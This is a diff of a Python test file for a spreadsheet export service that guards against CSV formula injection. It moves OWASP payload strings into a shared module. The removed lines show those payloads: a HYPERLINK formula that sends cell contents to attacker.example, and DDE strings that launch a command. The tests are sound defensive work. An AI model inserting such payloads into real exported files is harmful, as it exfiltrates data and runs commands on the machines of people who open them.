@@ -8,19 +8,11 @@ import io
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from tests.csv_injection import FORMULA_STARTS, PAYLOADS, formula_like
 
-from carbontrack.services.spreadsheet import FORMULA_STARTS, neutralise, restore
+from carbontrack.services.spreadsheet import neutralise, restore
 
-# OWASP "CSV Injection" payloads, and notes that merely look like an escaped one.
-PAYLOADS = [
-    "=1+2",
-    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+2",
-    "\r=1+2",
-]
+# Notes that merely look like an escaped formula.
 LOOKALIKES = ["'=1+2", "''=1", "'", "'hello", "''", "x=1", "it's =fine", "-", "'-"]
 
 
@@ -43,16 +35,10 @@ def test_only_cells_the_export_changed_are_changed_back() -> None:
 
 
 cells = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40)
-formula_like = st.builds(
-    lambda quotes, start, rest: "'" * quotes + start + rest,
-    st.integers(0, 3),
-    st.sampled_from(FORMULA_STARTS),
-    cells,
-)
 
 
 @settings(max_examples=500, deadline=None)
-@given(cell=cells | formula_like)
+@given(cell=cells | formula_like(cells, max_quotes=3))
 def test_no_cell_starts_a_formula_and_every_cell_reads_back(cell: str) -> None:
     written = neutralise(cell)
     assert not written.startswith(tuple(FORMULA_STARTS))
@@ -60,7 +46,7 @@ def test_no_cell_starts_a_formula_and_every_cell_reads_back(cell: str) -> None:
 
 
 @settings(max_examples=300, deadline=None)
-@given(row=st.lists(cells | formula_like, min_size=1, max_size=4))
+@given(row=st.lists(cells | formula_like(cells, max_quotes=3), min_size=1, max_size=4))
 def test_a_row_survives_csv_with_crlf_and_newline_none(row: list[str]) -> None:
     """As transfer.py writes (CRLF, so a bare CR is quoted) and reads (newline="")."""
     buffer = io.StringIO()
